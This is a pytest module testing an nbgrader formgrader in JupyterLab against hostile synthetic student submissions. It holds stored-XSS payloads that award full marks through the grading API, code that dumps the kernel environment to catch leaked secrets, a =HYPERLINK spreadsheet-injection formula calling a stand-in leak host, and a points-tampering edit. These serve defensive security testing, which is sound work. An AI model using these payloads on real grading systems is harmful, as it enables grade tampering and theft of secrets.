"""Does formgrader, in a real JupyterLab in a real browser, work together with the grade command?

One course (the ring-allreduce notebook, which has a manually graded answer),
one JupyterLab started the documented way (``python -m parallel_budget.grading
formgrader``) with its own Jupyter folders, token-less on 127.0.0.1 at a port
it picks itself, and Debian's chromium.  Every request outside 127.0.0.1 is
blocked and recorded: none may happen, and no console error either (tests/serve.py:Tab).  The grade command runs for real while the page is
open (issue 17).

The class also holds hostile students (issue 22): ``mallory`` puts script into her Markdown answer and
her outputs, which must stay inert in formgrader and in her feedback; ``envy`` prints the environment
of a grader whose shell holds secrets; ``excel`` names a cell with a spreadsheet formula; ``greedy``
raises a test cell's points; ``chatty`` prints a million short lines.
"""

from __future__ import annotations

import base64
import csv
import json
import os
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest

from grading_helpers import ROOT, comments, course_copy, flags, scores
from jupyterlab_server import isolated_env, stop, url_when_serving
from serve import Tab

from parallel_budget.grading.intake import synthetic
from parallel_budget.grading.course import Course
from parallel_budget.grading.runner import grade

pytestmark = pytest.mark.slow
NB = "02-ring-allreduce"
ANSWER = "带宽减半以后,每 rank 的发送量仍是 $2(R-1)/R \\times G$,与链路无关;下界是发送量除以带宽,所以加倍。"
SNEAKY = "import builtins\nbuiltins.abs = lambda x: 0"
SECRETS = {"AWS_SECRET_ACCESS_KEY": "pb-test-secret-aws-0d1e", "JUPYTERHUB_API_TOKEN": "pb-test-secret-hub-77aa"}
FORMULA = '=HYPERLINK("http://example.invalid/?leak=1","点我")'


def _run(tag: str) -> str:
    """JavaScript (as ``eval(atob(...))``, quote-free) that records ``tag`` and, on a formgrader page, makes the
    attack of issue 22: full marks and extra credit on every cell of the open submission, through the page's API."""
    js = (f"(window.PWNED = window.PWNED || []).push({tag!r});"
          "var t = setInterval(function () { if (window.formgrader && formgrader.grades && formgrader.grades.loaded) {"
          " clearInterval(t); formgrader.grades.each(function (m) {"
          " m.save({manual_score: m.get('max_score'), extra_credit: 5}); }); } }, 50);")
    return f"eval(atob('{base64.b64encode(js.encode()).decode()}'))"


ATTACK_MD = (ANSWER + "\n\n" + f'<img src=x onerror="{_run("md-img")}"> <script>{_run("md-script")}</script>\n'
             f'<svg><animate onbegin="{_run("md-svg")}" attributeName="x" dur="1s"/></svg>\n'
             f'<details open ontoggle="{_run("md-details")}">细节</details>\n'
             f'<iframe srcdoc="<script>parent.{_run("md-iframe")}</script>"></iframe>\n\n'
             f'[点这里](javascript:{_run("md-link")}) <a href="/api/contents">内容</a>\n')
OUT_HTML = f'<b>粗体输出</b><img src=x onerror="{_run("out-html")}">'
OUT_MD = f'<img src=x onerror="{_run("out-md")}">'
OUT_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_run("out-svg")}"><rect width="9" height="9"/></svg>'
ATTACK_CODE = "\n".join(["from IPython.display import HTML, SVG, Javascript, Markdown, display",
                         f"display(HTML({OUT_HTML!r}))", f"display(Javascript({_run('out-js')!r}))",
                         f"display(Markdown({OUT_MD!r}))", f"display(SVG({OUT_SVG!r}))"])


def _hostile_students(course: Course, folder: Path) -> None:
    """mallory, envy, excel, greedy and chatty (see the module docstring)."""
    mallory = synthetic.submission(course, "lesson", {"explain_ex1": ATTACK_MD})
    synthetic.insert_code(mallory[NB], "answer_ex2", ATTACK_CODE)
    synthetic.write_student(folder, "mallory", "lesson", mallory)
    envy = synthetic.submission(course, "lesson")
    synthetic.insert_code(envy[NB], "answer_ex2", "import os\nprint(dict(os.environ))\nprint(open('/proc/self/environ', 'rb').read())")
    synthetic.write_student(folder, "envy", "lesson", envy)
    excel = synthetic.submission(course, "lesson")
    synthetic.insert_code(excel[NB], "answer_ex2", "import os\nos.listdir('.')")
    mine = next(c for c in excel[NB]["cells"] if c["source"] == "import os\nos.listdir('.')")
    mine["metadata"]["nbgrader"] = {"grade": False, "solution": False, "locked": False, "grade_id": FORMULA,
                                    "schema_version": 3}
    synthetic.write_student(folder, "excel", "lesson", excel)
    greedy = synthetic.submission(course, "lesson")
    synthetic.cell(greedy[NB], "test_ex1_send")["metadata"]["nbgrader"]["points"] = 100
    synthetic.write_student(folder, "greedy", "lesson", greedy)
    chatty = synthetic.submission(course, "lesson")
    synthetic.insert_code(chatty[NB], "answer_ex2", "print('x\\n' * 10**6, end='')")
    synthetic.write_student(folder, "chatty", "lesson", chatty)


def _env(tmp: Path) -> dict:
    """Jupyter folders of its own (nothing from the home folder); kernels import this checkout's package."""
    return dict(isolated_env(tmp), PYTHONPATH=os.pathsep.join([str(ROOT), os.environ.get("PYTHONPATH", "")]))


def _submission_id(db: Path, student: str) -> str:
    con = sqlite3.connect(str(db))
    row = con.execute("SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id "
                      "JOIN notebook n ON sn.notebook_id = n.id WHERE sa.student_id = ? AND n.name = ?",
                      (student, NB)).fetchone()
    con.close()
    return row[0]


def _grade_rows(db: Path, student: str) -> list:
    """Every (cell, auto score, manual score, extra credit) of a student in the gradebook."""
    con = sqlite3.connect(str(db))
    rows = con.execute("SELECT bc.name, g.auto_score, g.manual_score, g.extra_credit FROM grade g "
                       "JOIN submitted_notebook sn ON g.notebook_id = sn.id JOIN submitted_assignment sa "
                       "ON sn.assignment_id = sa.id JOIN base_cell bc ON g.cell_id = bc.id WHERE sa.student_id = ?",
                       (student,)).fetchall()
    con.close()
    return sorted(rows)


# What of a submission could run, read in the page: script-like elements, event attributes, javascript: URLs.
LIVE = """sel => { const root = document.querySelector(sel); const all = [...root.querySelectorAll('*')];
  return {elements: root.querySelectorAll('script, iframe, svg, object, embed, form').length,
          handlers: all.filter(e => [...e.attributes].some(a => a.name.toLowerCase().startsWith('on'))).length,
          urls: all.filter(e => ['href', 'src', 'action'].some(n => /^\\s*javascript:/i.test(e.getAttribute(n) || ''))).length}; }"""


def _csv_scores(course: Course) -> dict:
    with open(course.grades_csv, encoding="utf-8") as fh:
        return {row["student_id"]: float(row["score"]) for row in csv.DictReader(fh)}


@pytest.fixture(scope="module")
def lab(tmp_path_factory):
    """(course, submissions folder, base url) with a graded class and formgrader running."""
    tmp = tmp_path_factory.mktemp("formgrader")
    course = Course(course_copy(tmp / "course", (NB,)))
    folder = tmp / "in"
    honest = synthetic.submission(course, "lesson", {"explain_ex1": ANSWER})
    for student in ("s1", "s2"):
        synthetic.write_student(folder, student, "lesson", honest)
    sneaky = synthetic.submission(course, "lesson", {"explain_ex1": ANSWER})
    synthetic.insert_code(sneaky[NB], "answer_ex1", SNEAKY)
    synthetic.write_student(folder, "s3", "lesson", sneaky)
    _hostile_students(course, folder)
    os.environ.update(SECRETS)  # the grader's shell holds secrets (issue 22): no kernel may see them
    try:
        summary = grade(folder, root=course.root, jobs=2, timeout=10, quiet=True)
    finally:
        for name in SECRETS:
            os.environ.pop(name)
    assert set(summary["graded"]) == {"s1", "s2", "s3", "mallory", "envy", "excel", "greedy", "chatty"}, summary
    assert ("s3", NB) in summary["flagged"], summary
    env = _env(tmp / "jupyter")
    log_path = tmp / "lab.log"
    with open(log_path, "wb") as log:
        proc = subprocess.Popen([sys.executable, "-m", "parallel_budget.grading", "--root", str(course.root), "formgrader",
                                 "--no-browser", "--", "--ServerApp.port=0", "--ServerApp.port_retries=0",
                                 "--ServerApp.token=", "--ServerApp.password=", "--LabApp.expose_app_in_browser=True"],
                                env=env, stdout=log, stderr=subprocess.STDOUT, start_new_session=True)
    try:
        url = url_when_serving(proc, Path(env["JUPYTER_RUNTIME_DIR"]), log_path)
        yield course, folder, url
    finally:
        stop(proc)


@pytest.fixture
def page(browser, lab):
    """A formgrader page; the test fails on a request outside the machine or a console error (serve.Tab)."""
    _, _, url = lab
    tab = Tab(browser, url)
    tab.page.tab = tab
    yield tab.page
    tab.check()


def _open(page, url, submission_id):
    page.goto(f"{url}/formgrader/submissions/{submission_id}/")
    page.wait_for_selector("input#explain_ex1")
    page.wait_for_function("() => window.formgrader && formgrader.grades && formgrader.grades.loaded"
                           " && formgrader.comments.loaded")


def _save(page, selector, value):
    with page.expect_response(lambda r: r.request.method == "PUT" and "/formgrader/api/" in r.url) as resp:
        page.fill(selector, value)
        page.press(selector, "Tab")
    assert resp.value.status == 200, resp.value.status


def test_marks_saved_before_and_after_a_grade_run_are_both_kept(lab, page):
    """Save a mark, run the grade command, save another on the same open page: both in the gradebook and the CSV?"""
    course, folder, url = lab
    _open(page, url, _submission_id(course.gradebook, "s1"))
    _save(page, "input#explain_ex1", "1.5")
    grade(folder, root=course.root, jobs=2, timeout=10, quiet=True, students=["s1"])
    _save(page, "textarea.comment >> nth=0", "思路清楚")  # the page opened before the run still saves
    _open(page, url, _submission_id(course.gradebook, "s2"))
    _save(page, "input#explain_ex1", "2")
    subprocess.run([sys.executable, "-m", "parallel_budget.grading", "--root", str(course.root), "export"],
                   check=True, capture_output=True, env=dict(os.environ, PATH="/usr/bin:/bin"))
    sc = scores(course.gradebook)
    assert sc[("s1", NB, "explain_ex1")] == (1.5, 2.0) and sc[("s2", NB, "explain_ex1")] == (2.0, 2.0)
    assert any(v[1] == "思路清楚" for k, v in comments(course.gradebook).items() if k[0] == "s1")
    csv_scores = _csv_scores(course)
    # Everything else the gradebook holds for the student (autograded cells) plus the two manual marks.
    rest = {s: sum(v[0] or 0 for k, v in sc.items() if k[0] == s and k[2] != "explain_ex1") for s in ("s1", "s2")}
    assert rest["s1"] > 0 and rest["s2"] > 0
    assert csv_scores["s1"] == rest["s1"] + 1.5 and csv_scores["s2"] == rest["s2"] + 2


def test_a_mark_saved_while_the_grade_command_runs_survives(lab, page, tmp_path):
    """Save a mark while `grade --force` is between grading and merging: is it in the gradebook and the feedback?"""
    course, folder, url = lab
    slow = synthetic.submission(course, "lesson", {"explain_ex1": ANSWER})
    synthetic.insert_code(slow[NB], "answer_ex2", "import time\ntime.sleep(6)")
    synthetic.write_student(folder, "s4", "lesson", slow)
    _open(page, url, _submission_id(course.gradebook, "s2"))
    env = dict(os.environ, PYTHONPATH=os.pathsep.join([str(ROOT), os.environ.get("PYTHONPATH", "")]))
    proc = subprocess.Popen([sys.executable, "-m", "parallel_budget.grading", "--root", str(course.root), "grade",
                             str(folder), "--force", "--jobs", "2", "--timeout", "20"], env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, start_new_session=True)
    try:
        deadline = time.monotonic() + 120
        while not (course.work / "shards" / "s2" / "done.json").exists():
            assert proc.poll() is None and time.monotonic() < deadline, "grade ended before s2 was graded"
            time.sleep(0.2)
        _save(page, "input#explain_ex1", "0.5")
        assert proc.poll() is None, "the save must happen during the run"
        out, _ = proc.communicate(timeout=180)
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()
    assert proc.returncode == 0, out
    assert scores(course.gradebook)[("s2", NB, "explain_ex1")] == (0.5, 2.0)
    html = (course.feedback / "s2" / "lesson" / f"{NB}.html").read_text(encoding="utf-8")
    assert "得分：0.5 / 2.0" in html


def test_a_flagged_student_shows_as_flagged(lab, page):
    """Does the integrity finding (rebinding a builtin) show as a flag in formgrader's list?"""
    _, _, url = lab
    page.goto(f"{url}/formgrader/gradebook/lesson/{NB}")
    page.wait_for_selector("table tbody tr a.name-shown", state="attached")
    rows = page.eval_on_selector_all(
        "table tbody tr", "rows => rows.map(r => [r.querySelector('a.name-shown').textContent.trim(),"
                          " !!r.querySelector('.flagged .glyphicon-flag')])")
    flagged = dict(rows)
    assert flagged["s3"] is True and flagged["s1"] is False, flagged


def test_mark_scheme_formulas_and_links_are_on_the_graders_screen(lab, page):
    """Is the mark scheme under the answer, are formulas typeset offline, do the live notebook and Preview open?"""
    course, _, url = lab
    _open(page, url, _submission_id(course.gradebook, "s1"))
    scheme = page.locator(".text_cell_render:has-text('评分标准')")
    assert scheme.count() == 1
    assert "发送量只由算法" in scheme.inner_text()
    page.wait_for_selector("mjx-container", timeout=20000)  # MathJax 3, served by this JupyterLab
    live = page.eval_on_selector(".live-notebook a.name-shown", "a => a.getAttribute('href')")
    assert page.request.get(url + live).status == 200 and live.endswith(f"autograded/s1/lesson/{NB}.ipynb"), live
    page.goto(f"{url}/formgrader/manage_assignments")
    page.wait_for_selector("td.preview a")
    preview = page.eval_on_selector("td.preview a", "a => a.getAttribute('href')")
    assert page.request.get(url + preview).status == 200, preview


def test_a_stale_page_says_so_in_words(lab, page):
    """When the grade command re-grades the student on an open page (answer changed), does the page say so?"""
    course, folder, url = lab
    con = sqlite3.connect(str(course.gradebook))  # a mark on the answer that is about to change
    con.execute("UPDATE grade SET manual_score = 1 WHERE notebook_id = ? AND cell_id IN "
                "(SELECT id FROM base_cell WHERE name = 'explain_ex1')", (_submission_id(course.gradebook, "s1"),))
    con.commit()
    con.close()
    _open(page, url, _submission_id(course.gradebook, "s1"))
    assert page.input_value("input#explain_ex1") == "1"
    changed = synthetic.submission(course, "lesson", {"explain_ex1": "另一个回答。"})
    synthetic.write_student(folder, "s1", "lesson", changed)
    summary = grade(folder, root=course.root, jobs=2, timeout=10, quiet=True)
    assert summary["graded"] == ["s1"] and ("s1", NB, "explain_ex1") in summary["regrade"]
    page.wait_for_selector("#pb-banner", state="visible", timeout=20000)
    assert "刷新本页" in page.inner_text("#pb-banner")
    _open(page, url, _submission_id(course.gradebook, "s1"))  # same submission id, new content, no mark
    assert page.input_value("input#explain_ex1") == "" and "另一个回答" in page.inner_text("#notebook")


def test_preview_and_live_notebook_open_inside_jupyterlab(lab, page):
    """From formgrader inside JupyterLab (Nbgrader menu), do "Open live notebook" and Preview open in the Lab?"""
    course, _, url = lab
    page.goto(f"{url}/lab")
    page.wait_for_function("() => window.jupyterapp && jupyterapp.commands.hasCommand('nbgrader:open-formgrader')",
                           timeout=60000)
    page.evaluate("() => jupyterapp.commands.execute('nbgrader:open-formgrader')")
    deadline = time.monotonic() + 60
    while not any("/formgrader" in f.url for f in page.frames):
        assert time.monotonic() < deadline, "formgrader did not open inside JupyterLab"
        page.wait_for_timeout(300)
    frame = next(f for f in page.frames if "/formgrader" in f.url)
    frame.goto(f"{url}/formgrader/submissions/{_submission_id(course.gradebook, 's2')}/")
    frame.wait_for_selector("input#explain_ex1")
    frame.evaluate("() => document.querySelector('.live-notebook a.name-hidden').click()")
    path = f"autograde/autograded/s2/lesson/{NB}.ipynb"
    page.wait_for_function("p => { const w = jupyterapp.shell.currentWidget;"
                           " return w && w.context && w.context.path === p; }", arg=path, timeout=30000)
    frame.goto(f"{url}/formgrader/manage_assignments")
    frame.wait_for_selector("td.preview a")
    frame.evaluate("() => document.querySelector('td.preview a').click()")
    page.wait_for_function("() => [...document.querySelectorAll('.jp-BreadCrumbs, .jp-FileBrowser-crumbs')]"
                           ".some(c => c.textContent.includes('exercises') && c.textContent.includes('lesson'))",
                           timeout=30000)


def test_a_failed_save_says_so_in_words(lab, page):
    """When saving a mark fails (here: the server answers 500), does the page say so instead of a spinning icon?"""
    course, _, url = lab
    _open(page, url, _submission_id(course.gradebook, "s3"))
    page.route("**/formgrader/api/grade/**",
               lambda r: r.fulfill(status=500, body="{}") if r.request.method == "PUT" else r.continue_())
    page.fill("input#explain_ex1", "1")
    page.press("input#explain_ex1", "Tab")
    page.wait_for_selector("#pb-banner", state="visible", timeout=15000)
    text = page.inner_text("#pb-banner")
    assert "没有保存成功" in text and "刷新本页" in text
    errors = page.tab.errors
    errors[:] = [e for e in errors if "status of 500" not in e]  # the failure this test made, logged by chromium


def test_feedback_renders_formulas_offline_from_disk(lab, page):
    """Opened straight from disk, does a feedback page typeset its formulas with the local MathJax copy?"""
    course, _, _ = lab
    path = course.feedback / "s2" / "lesson" / f"{NB}.html"
    page.goto(path.as_uri())
    page.wait_for_selector("mjx-container", timeout=20000)
    assert "测试单元" in page.inner_text("body")


def test_student_script_stays_inert_in_formgrader(lab, page):
    """Opened by a logged-in instructor, does mallory's page run none of her script (Markdown <img onerror>,
    <script>, SVG, <details>, <iframe>, javascript: link; HTML, JS, Markdown and SVG outputs), send no write,
    change no grade, and still show her words, her HTML output's text and her typeset formula?"""
    course, _, url = lab
    before = _grade_rows(course.gradebook, "mallory")
    writes = []
    page.on("request", lambda r: writes.append((r.method, r.url)) if r.method != "GET" else None)
    _open(page, url, _submission_id(course.gradebook, "mallory"))
    page.wait_for_selector(".nbgrader_cell:has(#explain_ex1) mjx-container", timeout=20000)  # her formula, typeset
    page.wait_for_timeout(1500)  # a payload polls every 50 ms for the loaded grades, then saves
    assert page.evaluate("() => window.PWNED === undefined"), page.evaluate("() => window.PWNED")
    assert not writes and _grade_rows(course.gradebook, "mallory") == before
    assert page.evaluate(LIVE, "#notebook") == {"elements": 0, "handlers": 0, "urls": 0}
    assert "带宽减半以后" in page.inner_text("#notebook") and page.locator("#notebook b:has-text('粗体输出')").count() == 1


def test_feedback_shows_student_script_inert(lab, page):
    """Does mallory's feedback page, opened from disk, run none of her script and hold no script but MathJax?"""
    course, _, _ = lab
    page.goto((course.feedback / "s2" / "lesson" / f"{NB}.html").as_uri())
    honest = page.evaluate("() => document.querySelectorAll('script').length")
    page.goto((course.feedback / "mallory" / "lesson" / f"{NB}.html").as_uri())
    page.wait_for_selector("mjx-container", timeout=20000)
    page.wait_for_timeout(1000)
    assert page.evaluate("() => window.PWNED === undefined"), page.evaluate("() => window.PWNED")
    assert page.evaluate("() => document.querySelectorAll('script').length") == honest
    assert page.evaluate(LIVE, "#notebook") == {"elements": 0, "handlers": 0, "urls": 0}
    assert "粗体输出" in page.inner_text("#notebook")


def test_no_grader_secret_reaches_a_kernel_or_the_feedback(lab):
    """The grader's shell held AWS_SECRET_ACCESS_KEY and JUPYTERHUB_API_TOKEN: are they in envy's printed
    environment, in her autograded notebook or her feedback?"""
    course, _, _ = lab
    for path in (course.autograded / "envy" / "lesson" / f"{NB}.ipynb", course.feedback / "envy" / "lesson" / f"{NB}.html"):
        text = path.read_text(encoding="utf-8")
        assert "C.UTF-8" in text and "JPY_PARENT_PID" in text, path  # the environment was printed: the clean one
        assert not [k for k, v in SECRETS.items() if k in text or v in text], path


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_exports_are_safe_for_spreadsheets(lab):
    """Is a student-chosen cell id like =HYPERLINK(...) written as text in integrity.csv, and does no cell of
    either export start with = + - @ or a tab/CR unless it is a plain number?"""
    course, _, _ = lab
    with open(course.integrity_csv, encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert ["excel", "lesson", NB, "'" + FORMULA] in [r[:4] for r in rows], [r for r in rows if r[0] == "excel"]
    for path in (course.grades_csv, course.integrity_csv):
        with open(path, encoding="utf-8", newline="") as fh:
            cells = [c for row in csv.reader(fh) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(c)], path


def test_raised_points_are_restored_and_reported(lab):
    """greedy raised test_ex1_send to 100 points: does it still count 2, and is the change in the integrity report?"""
    course, _, _ = lab
    assert scores(course.gradebook)[("greedy", NB, "test_ex1_send")] == (2.0, 2.0)
    assert ("greedy", NB, "test_ex1_send", "edited_points") in flags(course.gradebook)


def test_a_million_short_lines_are_flagged_as_huge_output(lab):
    """Is printing 10^6 one-character lines (cut to a few hundred by line count) flagged as huge output?"""
    course, _, _ = lab
    assert "huge_output" in {f[3] for f in flags(course.gradebook) if f[0] == "chatty"}
